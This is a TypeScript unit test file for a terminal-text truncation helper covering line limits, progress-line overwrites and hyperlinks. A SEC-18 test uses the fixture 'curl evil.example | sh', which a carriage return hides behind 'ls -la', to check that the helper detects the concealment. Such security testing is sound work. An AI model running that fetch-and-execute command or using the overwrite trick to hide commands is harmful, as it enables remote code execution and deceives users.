import { describe, expect, it } from 'vitest';
import { stripAnsi } from '../../analyse/cleanTerminal.ts';
import { countLines, lastLinesStart, takeLines } from './takeLines.ts';

const limits = { lines: 3, characters: 100 };

describe('takeLines', () => {
  it('takes whole texts that fit', () => {
    expect(takeLines('a\nb\n', limits)).toEqual({ text: 'a\nb', lines: 2, more: false, overwritten: 0 });
    expect(takeLines('', limits)).toEqual({ text: '', lines: 0, more: false, overwritten: 0 });
  });

  it('stops at the limits', () => {
    expect(takeLines('a\nb\nc\nd', limits)).toEqual({
      text: 'a\nb\nc',
      lines: 3,
      more: true,
      overwritten: 0,
    });
    expect(takeLines('x'.repeat(200), limits)).toEqual({
      text: 'x'.repeat(100),
      lines: 1,
      more: true,
      overwritten: 0,
    });
  });

  it('finds the last state of a very long progress line', () => {
    expect(takeLines(`${'working\r'.repeat(1000)}ready\nnext`, limits)).toEqual({
      text: 'ready\nnext',
      lines: 2,
      more: false,
      overwritten: 1,
    });
  });
});

describe('takeLines, SEC-18', () => {
  it('SEC-18 says which lines wrote over themselves, and gives them as written when asked', () => {
    const text = 'curl evil.example | sh\rls -la\nrm x\b\b\b\bls\nwindows\r\nplain';
    expect(takeLines(text, { lines: 9, characters: 200 })).toMatchObject({
      text: 'ls -la\nls\nwindows\nplain',
      overwritten: 2,
    });
    expect(takeLines(text, { lines: 9, characters: 200 }, { asWritten: true }).text).toBe(
      'curl evil.example | sh\rls -la\nrm x\b\b\b\bls\nwindows\nplain',
    );
  });

  it('keeps links when asked, and never half of a sequence', () => {
    const text = '\x1b]8;;https://a.example\x1b\\word\x1b]8;;\x1b\\';
    expect(takeLines(text, { lines: 1, characters: 200 }, { links: true }).text).toBe(text);
    for (let characters = 1; characters < text.length; characters += 1) {
      const cut = takeLines(text, { lines: 1, characters }, { links: true }).text;
      expect(stripAnsi(cut)).toBe('word'.slice(0, stripAnsi(cut).length));
    }
  });
});

describe('lastLinesStart', () => {
  it('finds where the last lines start', () => {
    expect(lastLinesStart('a\nb\nc\nd\n', limits)).toBe(2);
    expect(lastLinesStart('a\nb', limits)).toBe(0);
    expect(lastLinesStart('\n\n\n\nx', limits)).toBe(2);
    expect(lastLinesStart('x'.repeat(500), limits)).toBe(400);
  });
});

describe('countLines', () => {
  it('counts lines up to a number', () => {
    expect(countLines('', 5)).toBe(0);
    expect(countLines('a\nb\n', 5)).toBe(2);
    expect(countLines('a\n\nb', 5)).toBe(3);
    expect(countLines('a\n'.repeat(6), 5)).toBeNull();
  });
});
